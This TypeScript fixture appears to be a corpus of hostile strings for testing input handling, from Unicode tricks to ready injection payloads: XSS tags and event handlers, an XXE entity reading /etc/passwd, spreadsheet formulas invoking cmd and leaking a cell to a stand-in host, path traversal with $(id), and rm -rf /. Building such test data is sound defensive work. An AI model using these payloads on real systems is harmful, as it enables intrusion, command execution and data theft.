/** A text that a venue, or whoever owns its database, could put into any field, and what it is a trap for. */
export interface HostileText {
  readonly trap: string;
  readonly text: string;
}

const trap = (name: string, text: string): HostileText => ({ trap: name, text });
const everyCode = (from: number, to: number): string =>
  String.fromCharCode(...Array.from({ length: to - from + 1 }, (_, i) => from + i));

/** One of each kind that a reader, a parser or a person has been caught by. */
export const hostileCorpus: readonly HostileText[] = [
  trap('bidi override', 'invoice\u202efdp.exe\u202c \u2066hidden\u2069 \u200f\u061c'),
  trap('zero width', 'zero\u200bwid\u200cth\u200d\u2060\ufeff soft\u00adhyphen \u180e\u3164end'),
  trap('combining flood', `Z${'\u0335\u0489\u20dd\ufe0f'.repeat(30)}algo`),
  trap('lone surrogates', '\ud800lone surrogate\udc00'),
  trap('NUL and C0', `nul${everyCode(0, 31)}\u007fend`),
  trap('C1', `c1${everyCode(0x80, 0x9f)}end`),
  trap('no characters', 'x\ufffe\uffff\ufdd0\u{1fffe}y'),
  trap('very long', `${'W'.repeat(2_999)}Z`),
  trap('right to left', 'שלום 100 BTC ← مرحبا 0.5'),
  trap('Chinese', '已提现一百万到未知地址'),
  trap('emoji', '🚨🏴‍☠️👩‍💻🇺🇸 gone'),
  trap('homoglyphs', 'раypаl ВТС Ѕupport ΑΒΤ0x'),
  trap('look-alikes of ASCII', '１．０ ＢＴＣ ﬁnal ⅷ ℡'),
  trap(
    'ANSI escapes',
    '\u001b[2J\u001b[31mall clear\u001b[0m\u001b]8;;https://example.invalid\u0007here\u009b2K',
  ),
  trap('javascript URL', 'javascript:alert(document.domain)//'),
  trap('data URL', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
  trap('script', '</script><script>alert(1)</script><img src=x onerror=alert(2)>'),
  trap('end of style, title, svg', '</style></title></svg></table></template><svg onload=alert(3)>'),
  trap('comment', '<!--<script> --> <![CDATA[ ]]> <!doctype html><?xml version="1.0"?>'),
  trap('attribute', `" onmouseover="alert(4)" x=' onfocus='alert(5)' autofocus \``),
  trap('line separators', 'one\u2028two\u2029three\u0085four'),
  trap('template', '{{constructor.constructor("alert(6)")()}} ${alert(7)} <%= 7*7 %> #{7*7}'),
  trap('PDF operators', '(unbalanced \\( ) Tj ET Q endstream endobj 1 0 obj <</JS (app.alert(1))>> %'),
  trap('spelled already', 'is \\u{202e} and \\\\u{202e} and \\u202e'),
  trap('XML entities', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a; &lt;b&gt; &#x202e; ]]>'),
  trap('XMP', '</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'),
  trap('formula', '=HYPERLINK("https://example.invalid/?"&A1,"pay")'),
  trap('formula with plus', "+1+cmd|' /C calc'!A0"),
  trap('formula with minus', "-2+3+cmd|' /C calc'!A0"),
  trap('formula with at', "@SUM(1+1)*cmd|' /C calc'!A0"),
  trap('formula after tab', '\t=1+1'),
  trap('formula after return', '\r=1+1'),
  trap('formula after blanks', ' \u00a0 =1+1'),
  trap('formula after a quote', '"=1+1",=2+2;=3+3\n=4+4'),
  trap('fields', 'a,b;c\td"e""f\r\ng|h'),
  trap(
    'Markdown link',
    '[click](https://example.invalid) ![x](http://example.invalid/a.png) <https://example.invalid>',
  ),
  trap('Markdown reference', '[a]: https://example.invalid\n[a] [^1]\n\n[^1]: note'),
  trap(
    'autolink',
    'https://example.invalid/?a=1 www.example.invalid mail@example.invalid ftp://example.invalid',
  ),
  trap('mention', '@octocat @org/team #1 GH-12 org/repo#7 fixes #2'),
  trap('Markdown blocks', '# heading\n\nsetext\n===\n- [ ] task\n1. one\n> quote\n***\n    code'),
  trap('fences', '```sh\nrm -rf /\n```\n~~~\n``` `a` ``b``'),
  trap('table', '| a | b |\n| --- | --- |\n| c \\| d |'),
  trap('Markdown spans', '**bold** _it_ ~~no~~ $x^2$ :smile: `code` <b>b</b>\\'),
  trap('path', '../../../etc/passwd\u0000.png C:\\con\\nul "a" $(id) `id` ;id'),
  trap('prototype', '__proto__'),
  trap('empty', ''),
  trap('blank', ' '),
  trap('number that is none', '1e999'),
  trap('minus zero', '-0'),
  trap('number beyond doubles', '9'.repeat(400)),
  trap('small number', `-0.${'0'.repeat(400)}1`),
  trap('year of stone', '-271821-04-20T00:00:00.000Z'),
  trap('year far off', '+275760-09-13T00:00:00.000Z'),
  trap('time that is none', '2026-13-45T99:99:99Z'),
];
